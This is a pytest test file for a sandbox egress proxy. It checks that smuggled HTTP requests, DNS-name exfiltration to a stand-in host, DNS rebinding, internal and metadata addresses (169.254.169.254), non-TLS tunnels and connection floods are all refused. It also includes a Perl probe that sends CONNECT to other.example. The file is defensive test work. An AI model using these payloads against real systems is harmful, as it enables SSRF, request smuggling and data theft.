"""THREATS S19: a guest that fetches packages, or a package it downloaded, wants to reach something else.

The attacker is at the guest's end of the proxy's socket and may send any bytes. Each attack first goes through a
careless proxy, as one writes it in twenty lines, where it must reach its victim.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from devtools.egresspeers import Certificates, tunnel
from devtools.one_server_network import network_to
from sandbox.attack.harness.egress_peers import (
    NAME,
    PUBLIC_ADDRESS,
    FakeNetwork,
    LoopbackServer,
    allow,
    careless,
    connect_request,
    connected,
    read_head,
    read_rest,
    send_request,
    serving,
)
from sandbox.egress.connection_meter import EgressLimits
from sandbox.egress.destinations import AllowList
from sandbox.egress.proxy import EgressProxy
from sandbox.engine.connection import DockerEngine
from sandbox.models import Check, EgressRefusal, Limits, Verdict
from sandbox.workbench.checks.callbacks import Watch
from sandbox.workbench.checks.fetch import FetchRequest, fetch
from sandbox.workbench.checks.guest_setup import GuestSetup
from tests.attack.arena import Arena

pytestmark = [pytest.mark.must, pytest.mark.one_git]

OTHER = "other.example"
OTHER_ADDRESS = "93.184.215.15"


@pytest.fixture(scope="module")
def certificates() -> Certificates:
    return Certificates()


@pytest.fixture
def victim(certificates: Certificates) -> Iterator[LoopbackServer]:
    """A server that the guest must not reach."""
    with serving(certificates.server(NAME, OTHER)) as server:
        yield server


Attack = Callable[[Path], object]


def reaches(attack: Attack, path: Path) -> None:
    with suppress(ConnectionError):
        attack(path)


def assert_stopped(
    tmp_path: Path, network: FakeNetwork, victim: LoopbackServer, attack: Attack, allowed: AllowList | None = None
) -> EgressProxy:
    """The attack delivers bytes to the victim through a careless proxy, and none through ours."""
    with careless(tmp_path / "careless", network):
        reaches(attack, tmp_path / "careless")
    assert victim.contacts, "void"
    victim.contacts.clear()
    network.looked_up.clear()
    network.dialled.clear()
    with EgressProxy(tmp_path / "ours", allowed or allow(), outside=network.outside) as proxy:
        reaches(attack, proxy.path)
    assert [contact for contact in victim.contacts if contact] == []
    return proxy


def test_s19_a_name_that_is_no_registry_is_neither_reached_nor_looked_up(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates
) -> None:
    """A look-up alone would carry what a host name says out of the host."""
    name = f"the-secret-of-the-guest.{OTHER}"
    network = network_to(victim, name)
    proxy = assert_stopped(
        tmp_path, network, victim, lambda path: tunnel(path, f"{name}:443", OTHER, certificates.client())
    )
    assert (network.looked_up, network.dialled) == ([], [])
    assert [(access.host, access.refused) for access in proxy.accesses] == [(name, EgressRefusal.NOT_ALLOWED)]


@pytest.mark.parametrize(
    "authority", [f"{PUBLIC_ADDRESS}:443", "127.0.0.1:443", "[::1]:443"], ids=["public", "loopback", "loopback 6"]
)
def test_s19_an_address_instead_of_a_name_is_refused(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates, authority: str
) -> None:
    ports = dict.fromkeys((PUBLIC_ADDRESS, "127.0.0.1", "[::1]"), victim.port)
    network = FakeNetwork({NAME: [[PUBLIC_ADDRESS]]}, ports)
    assert_stopped(tmp_path, network, victim, lambda path: tunnel(path, authority, NAME, certificates.client()))
    assert network.dialled == []


def test_s19_another_port_of_a_registry_is_refused(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates
) -> None:
    network = network_to(victim)
    assert_stopped(tmp_path, network, victim, lambda path: tunnel(path, f"{NAME}:22", NAME, certificates.client()))
    assert network.dialled == []


@pytest.mark.parametrize("server_name", [OTHER, None], ids=["another", "none"])
def test_s19_tls_to_another_server_behind_a_registrys_address_is_cut(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates, server_name: str | None
) -> None:
    proxy = assert_stopped(
        tmp_path,
        network_to(victim),
        victim,
        lambda path: tunnel(path, f"{NAME}:443", server_name, certificates.client()),
    )
    assert [access.refused for access in proxy.accesses] == [EgressRefusal.SERVER_NAME_DIFFERS]
    assert proxy.accesses[0].sent_bytes == 0


@pytest.mark.parametrize("first", [b"SSH-2.0-x\r\n", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"], ids=["ssh", "http"])
def test_s19_a_tunnel_carries_nothing_but_tls(tmp_path: Path, first: bytes) -> None:
    with serving() as victim:

        def attack(path: Path) -> None:
            with connected(path) as client:
                client.sendall(connect_request(f"{NAME}:443"))
                read_head(client)
                client.sendall(first)
                read_rest(client)

        proxy = assert_stopped(tmp_path, network_to(victim), victim, attack)
        assert [access.refused for access in proxy.accesses] == [EgressRefusal.NOT_TLS]
        with EgressProxy(tmp_path / "at once", allow(), outside=network_to(victim).outside) as other:
            send_request(other.path, connect_request(f"{NAME}:443") + first)
        assert [access.refused for access in other.accesses] == [EgressRefusal.NOT_TLS]


def test_s19_a_registry_with_https_is_not_asked_in_the_clear(tmp_path: Path) -> None:
    request = f"GET http://{NAME}/?secret HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode()
    with serving() as victim:
        assert_stopped(tmp_path, network_to(victim), victim, lambda path: send_request(path, request))
        assert_stopped(tmp_path, network_to(victim), victim, lambda path: send_request(path, request), allow(port=80))


def test_s19_a_second_request_cannot_hide_in_the_first(tmp_path: Path) -> None:
    """To a plain registry, whose server may serve other names too: only our own head arrives."""
    hidden = f"GET /secret HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
    head = f"GET http://{NAME}/a HTTP/1.1\r\nHost: {NAME}\r\n"
    smuggled = {
        "after": f"{head}\r\n{hidden}",
        "length": f"{head}Content-Length: {len(hidden)}\r\n\r\n{hidden}",
        "chunked": f"{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        "both": f"{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        "folded": f"{head}X: a\r\n b\r\n\r\n{hidden}",
        "host": f"GET http://{NAME}/a HTTP/1.1\r\nHost: {OTHER}\r\nX-Secret: {OTHER}\r\n\r\n",
        "line": f"GET http://{NAME}/a\x0bHost:{OTHER} HTTP/1.1\r\nHost: {NAME}\r\n\r\n",
    }
    seen: list[bytes] = []

    def answer(connection: socket.socket) -> bytes:
        connection.settimeout(0.2)
        found = b""
        with suppress(OSError):
            while more := connection.recv(65536):
                found += more
        seen.append(found)
        return found

    with serving(answer=answer) as victim:
        for name, request in smuggled.items():
            with careless(tmp_path / "careless", network_to(victim)):
                send_request(tmp_path / "careless", request.encode())
            assert OTHER.encode() in b"".join(seen), f"void: {name}"
            seen.clear()
            with EgressProxy(
                tmp_path / "ours", allow(port=80, plain=True), outside=network_to(victim).outside
            ) as proxy:
                send_request(proxy.path, request.encode())
            assert OTHER.encode() not in b"".join(seen), name
            assert all(found.startswith(b"GET /a HTTP/1.1\r\n") for found in seen if found), name
            seen.clear()


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.0.0.7", "172.17.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "::1", "::ffff:10.0.0.7",
     "fe80::1", "fd00::1", "64:ff9b::a00:7"],
)  # fmt: skip
def test_s19_a_registrys_name_that_leads_into_the_hosts_network_is_refused(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates, address: str
) -> None:
    network = FakeNetwork({NAME: [[address]]}, {address: victim.port})
    proxy = assert_stopped(
        tmp_path, network, victim, lambda path: tunnel(path, f"{NAME}:443", NAME, certificates.client())
    )
    assert network.dialled == []
    assert [access.refused for access in proxy.accesses] == [EgressRefusal.ADDRESS_NOT_ALLOWED]


def test_s19_a_name_that_changes_its_address_after_it_was_looked_at_changes_nothing(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates
) -> None:
    """DNS rebinding: the first answer is public, the second one is loopback. The careless proxy looks, then uses."""
    answers = {NAME: [[PUBLIC_ADDRESS], ["127.0.0.1"]]}
    network = FakeNetwork(answers, {"127.0.0.1": victim.port})
    assert_stopped(tmp_path, network, victim, lambda path: tunnel(path, f"{NAME}:443", NAME, certificates.client()))
    assert (network.looked_up, network.dialled) == ([NAME], [f"{PUBLIC_ADDRESS}:443"])


def test_s19_no_more_leaves_or_arrives_than_the_limits_allow(tmp_path: Path, certificates: Certificates) -> None:
    """The limits are of a fetch: a second connection has what the first left."""
    much = 2 * 1024**2

    def answer(connection: socket.socket) -> bytes:
        found = b""
        with suppress(OSError):
            while len(found) < much and (more := connection.recv(65536)):
                found += more
        return found

    with serving(certificates.server(NAME), answer) as victim:
        message = bytes(much)

        def attack(path: Path) -> None:
            for _ in range(2):
                tunnel(path, f"{NAME}:443", NAME, certificates.client(), message)

        with careless(tmp_path / "careless", network_to(victim)):
            attack(tmp_path / "careless")
        assert sum(map(len, victim.contacts)) == 2 * much, "void"
        victim.contacts.clear()
        limits = EgressLimits(sent_bytes=1024**2)
        with EgressProxy(tmp_path / "ours", allow(), limits, outside=network_to(victim).outside) as proxy:
            attack(proxy.path)
        assert sum(map(len, victim.contacts)) <= 1024**2
    assert [access.refused for access in proxy.accesses] == [EgressRefusal.TOO_MANY_BYTES] * 2
    assert sum(access.sent_bytes for access in proxy.accesses) <= 1024**2


def test_s19_slow_and_many_connections_do_not_keep_others_out(
    tmp_path: Path, victim: LoopbackServer, certificates: Certificates
) -> None:
    """Connections that say nothing are closed after a step's time, and leave room for an honest one."""
    limits = EgressLimits(open_connections=8, step_s=1.5)
    with EgressProxy(tmp_path / "ours", allow(), limits, outside=network_to(victim).outside) as proxy:
        idle = []
        for _ in range(8):
            context = connected(proxy.path)
            idle.append((context, context.__enter__()))
        try:
            ends_at, found = time.monotonic() + 20, b""
            with suppress(ConnectionError):
                found = tunnel(proxy.path, f"{NAME}:443", NAME, certificates.client())
            assert found == b"", "void: there was room"
            while not found and time.monotonic() < ends_at:
                time.sleep(0.1)
                with suppress(ConnectionError):
                    found = tunnel(proxy.path, f"{NAME}:443", NAME, certificates.client())
            assert found == b"echo hi"
        finally:
            for context, _ in idle:
                context.__exit__(None, None, None)


KNOCK = (
    "use IO::Socket::UNIX; use IO::Socket::INET;"
    " my $s = IO::Socket::UNIX->new(Peer => '/sandbox-egress');"
    " my $t = IO::Socket::INET->new(PeerAddr => '127.0.0.1:3128');"
    " print 'socket ', $s ? 1 : 0, ' relay ', $t ? 1 : 0, ' files ', join(',', glob('/sandbox-*')), qq(\\n);"
    " if ($s) { print $s qq(CONNECT other.example:443 HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n); print <$s> }"
)
"""Says whether there is a way out, and asks it for a host that is no registry."""


def test_s19_a_check_has_no_socket_and_a_fetch_only_its_registries(
    guests: Callable[..., Arena], engine: DockerEngine
) -> None:
    """Control: the same program in a guest that fetches finds the socket and the relay."""
    arena = guests("perl", "-e", KNOCK)
    arena.new_task()
    (run,) = arena.workbench.run_checks(arena.task.id, ["go"])
    assert run.verdict is Verdict.PASSED, run.stderr_tail
    assert run.stdout_tail.strip() == "socket 0 relay 0 files /sandbox-init"
    services = arena.workbench._services
    limits = Limits(memory_bytes=128 * 1024**2, cpus=1.0, pids=64)
    check = Check(id="fetch", label="Fetch", argv=("perl", "-e", KNOCK), timeout_s=60, limits=limits)
    setup = GuestSetup(str(engine.api.inspect_image("space-sandbox/base:latest")["Id"]), "runc")
    with fetch(services, FetchRequest("python", "attack", check, setup), Watch()) as fetched:
        first, _, rest = fetched.run.stdout_tail.partition("\n")
    assert first == "socket 1 relay 1 files /sandbox-ca.pem,/sandbox-egress,/sandbox-init,/sandbox-relay", "void"
    assert rest.startswith("HTTP/1.1 403 egress_refused not_allowed")
    assert (OTHER, EgressRefusal.NOT_ALLOWED) in {(access.host, access.refused) for access in fetched.accesses}
